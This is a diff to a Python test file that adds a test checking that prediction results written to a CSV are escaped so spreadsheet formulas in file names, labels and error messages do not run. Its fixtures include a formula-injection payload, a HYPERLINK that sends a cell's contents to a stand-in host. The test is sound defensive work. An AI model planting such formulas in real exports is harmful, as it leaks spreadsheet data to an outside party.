@@ -14,6 +14,7 @@ from ghostclas.bundle import Bundle
 from ghostclas.errors import UsageError
 from ghostclas.prediction.results import PredictionFiles
 from ghostclas.spec import Label, Prediction, PredictionError
+from ghostclas.spreadsheet import plain
 
 ANSWERS = [
     Prediction(
@@ -71,9 +72,22 @@ def test_a_row_of_the_table_is_one_row_whatever_the_name(tmp_path: Path, name: s
     with PredictionFiles(tmp_path) as files:
         files.write(answer(name))
         files.write(answer("next.jpg"))
-    assert [row["file"] for row in rows(tmp_path)] == [name, "next.jpg"]
+    assert [plain(row["file"]) for row in rows(tmp_path)] == [name, "next.jpg"]
     assert written(tmp_path) == [answer(name), answer("next.jpg")]
     assert (tmp_path / "predictions.csv").read_bytes().endswith(b",0.5,0\n")
+
+
+def test_a_spreadsheet_runs_no_formula_that_a_name_holds(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://a/?"&A1)'
+    one = Prediction(file=f"-{formula}", top=(Label(index=0, label=formula, score=0.5),))
+    bad = Prediction(file="@b", error=PredictionError(code="not_found", message="+1 does not exist"))
+    with PredictionFiles(tmp_path, top=1) as files:
+        files.write(one)
+        files.write(bad)
+    first, second = rows(tmp_path)
+    assert (first["file"], first["label_1"]) == (f"'-{formula}", f"'{formula}")
+    assert (second["file"], second["message"]) == ("'@b", "'+1 does not exist")
+    assert written(tmp_path) == [one, bad]
 
 
 def test_answers_survive_an_interrupt_and_resume_adds_the_others(tmp_path: Path) -> None:
